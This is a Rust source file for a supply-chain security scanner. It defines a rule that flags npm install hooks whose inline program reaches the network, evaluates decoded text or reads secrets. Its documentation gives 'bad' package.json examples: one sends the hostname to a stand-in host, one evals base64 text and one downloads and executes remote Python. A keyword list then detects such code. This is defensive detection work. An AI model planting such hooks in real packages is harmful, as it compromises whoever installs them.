//! # A hook holds a program that reaches out
//!
//! A hook of the manifest gives an interpreter a program text, and that text itself reaches the network, reads
//! secrets, decodes or makes code.
//!
//! ## Why it matters
//!
//! A program in a line of the manifest is in no file that anyone reviews, and is where the smallest droppers
//! live.
//!
//! ## Known benign uses
//!
//! Short checks of the version, or a `try` around the loading of a script that may not be there. Neither
//! reaches out.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('https').get('https://one.invalid/'+require('os').hostname())\""}}
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node -e \"eval(Buffer.from(process.env.npm_config_x || '','base64')+'')\""}}
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"install": "python3 -c \"import urllib.request as u; exec(u.urlopen('https://one.invalid/p').read())\""}}
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node -e \"if (+process.versions.node.split('.')[0] < 18) throw new Error('Node 18 is needed')\""}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}}
//! == postinstall.js
//! console.log("Thank you for using x!");
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1059, Command and Scripting Interpreter

use stockade_facts::api::{Effect, find};

use crate::prelude::*;

/// A hook holds a program that reaches out.
pub struct InlineProgramInHook;

impl Rule for InlineProgramInHook {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "inline-program-in-hook",
            title: "A hook holds a program that reaches out",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059.007",
            covers: &["node-e-inline", "lifecycle-preinstall", "lifecycle-install"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands() {
            if !matches!(command.origin, CommandOrigin::Hook(_)) || command.trigger != Trigger::Install {
                continue;
            }
            for run in &command.runs {
                let does = match run {
                    Run::NodeCode { code, .. } => node_program(facts, code),
                    Run::InterpreterCode { code, .. } => reaches_out(code).then_some("reaches out"),
                    _ => None,
                };
                if let Some(does) = does {
                    found.at(command.trigger, &command.locus, &format!("holds a program that {does}"));
                }
            }
        }
    }
}

/// What the program text itself does, the files that it loads left aside.
fn node_program(facts: &Facts<'_>, code: &str) -> Option<&'static str> {
    let layer = facts.scripts().iter().position(|script| script.layer.as_deref() == Some(code))?;
    let is_here = |script: u32| usize::try_from(script).is_ok_and(|script| script == layer);
    let calls = facts.all_calls().iter().filter(|call| is_here(call.spot.script));
    let called = calls.filter_map(|call| find(&call.api)).find_map(|entry| match entry.effect {
        Effect::Send(_) | Effect::SendOn | Effect::Lookup(_) => Some("reaches the network"),
        Effect::Evaluate(_) | Effect::EvaluateLast => Some("makes code of a text"),
        Effect::Decipher => Some("deciphers a text"),
        _ => None,
    });
    let reads = facts.reads().iter().any(|read| is_here(read.spot.script) && read.source.is_secret());
    called.or(reads.then_some("reads secrets"))
}

/// Program text of another interpreter that fetches, decodes or joins a socket.
fn reaches_out(code: &str) -> bool {
    const PARTS: [&str; 10] = [
        "urlopen",
        "requests.",
        "urllib",
        "b64decode",
        "base64",
        "socket",
        "Net::HTTP",
        "http://",
        "https://",
        "exec(",
    ];
    PARTS.iter().any(|part| code.contains(part))
}
